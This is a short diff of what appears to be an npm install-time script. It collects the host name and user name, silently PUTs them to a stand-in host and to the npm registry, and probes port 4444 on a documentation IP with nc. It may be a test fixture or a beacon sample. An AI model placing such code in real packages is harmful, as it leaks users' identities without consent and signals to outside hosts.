@@ -9,7 +9,7 @@ const report = JSON.stringify({ host: os.hostname(), user: os.userInfo().usernam
 const put = (url) => fetch(url, { method: 'PUT', body: report, signal: AbortSignal.timeout(5000) }).catch(() => {});
 
 (async () => {
-  await put('https://master.invalid/installed');
+  await put('https://master.example/installed');
   const registry = process.env.npm_config_registry;
   if (registry) await put(new URL('/left-here', registry));
   spawnSync('nc', ['-z', '-w', '1', '198.51.100.20', '4444']);
